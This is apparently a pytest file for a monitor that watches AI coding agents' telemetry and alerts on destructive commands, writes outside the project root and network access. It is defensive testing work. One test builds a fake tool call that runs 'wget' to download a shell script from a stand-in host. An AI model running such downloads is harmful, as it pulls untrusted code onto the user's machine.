"""Alerts as telemetry trickles in: a violation is announced when it happens and again only
when another step breaks the same rule; a check that cannot judge is noted once."""

from __future__ import annotations

import json
import tempfile
from dataclasses import replace
from pathlib import Path

from otel_oracles.decode import read_paths
from otel_oracles.model.result import InputProblem, Outcome
from otel_oracles.watch import Alert, Watcher
from tests.watch.captures import capture


def announced_one_record_at_a_time(raw: Path) -> list[Alert]:
    watcher = Watcher(Path(tempfile.mkdtemp(prefix="watch-")))
    problems: list[InputProblem] = []
    announced: list[Alert] = []
    for batch in read_paths([str(raw)], problems):
        for record in batch.logs:
            announced += watcher.offer([record]).alerts
    return announced


def test_each_alert_and_note_is_announced_once_as_records_arrive() -> None:
    announced = announced_one_record_at_a_time(capture("claude-code", "rm_outside"))
    assert [(a.rule, a.is_violation, a.steps) for a in announced] == [
        ("destructive_command", True, (0,)),
        ("write_outside_root", False, (0,)),
    ]


def test_a_rule_broken_again_by_a_later_step_is_announced_again() -> None:
    watcher = Watcher(Path(tempfile.mkdtemp(prefix="watch-")))
    problems: list[InputProblem] = []
    records = [r for b in read_paths([str(capture("codex", "curl"))], problems) for r in b.logs]
    first = watcher.offer(records).alerts
    curl = next(r for r in records if "curl" in str(r.attributes.get("arguments")))
    wget = replace(
        curl,
        attributes={**curl.attributes, "call_id": "call_99",
                    "arguments": '{"cmd": "wget http://x.example/a.sh"}'},
    )  # fmt: skip
    again = watcher.offer([wget]).alerts
    assert [a.steps for a in first if a.rule == "network_access"] == [(0,)]
    assert [a.steps for a in again if a.rule == "network_access"] == [(0, 3)]
    assert [a.rule for a in again] == ["network_access"], "nothing else is news"


def test_a_session_past_the_step_limit_is_an_error_alert_and_still_saved() -> None:
    """A session longer than ``max_steps`` is not graded (its earlier verdict is dropped:
    a pass of the first steps says nothing of the rest), an ``error`` alert says why, and
    the session is saved whole: nothing that arrived is lost."""
    save = Path(tempfile.mkdtemp(prefix="watch-"))
    watcher = Watcher(save, max_steps=1)
    problems: list[InputProblem] = []
    records = [r for b in read_paths([str(capture("codex", "curl"))], problems) for r in b.logs]
    alerts = [a for r in records for a in watcher.offer([r]).alerts]
    (session,) = watcher.sessions()
    assert len(session.steps) > 1
    refused = [a for a in alerts if a.rule == "trajectory"]
    assert [(a.outcome, a.is_violation) for a in refused] == [(Outcome.ERROR, False)], alerts
    assert "more than the limit of 1" in refused[0].message
    assert session.key not in watcher.verdicts
    saved = json.loads((save / f"{session.key}.trajectory.json").read_text())
    assert len(saved["steps"]) == len(session.steps)
